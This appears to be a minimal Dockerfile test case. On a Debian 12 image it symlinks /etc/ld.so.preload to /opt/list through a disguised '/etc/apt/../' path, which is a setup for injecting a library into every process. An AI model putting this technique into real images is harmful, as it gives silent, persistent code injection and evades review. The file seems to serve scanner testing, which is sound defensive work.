FROM debian:12-slim
RUN ln -sf /opt/list /etc/apt/../ld.so.preload
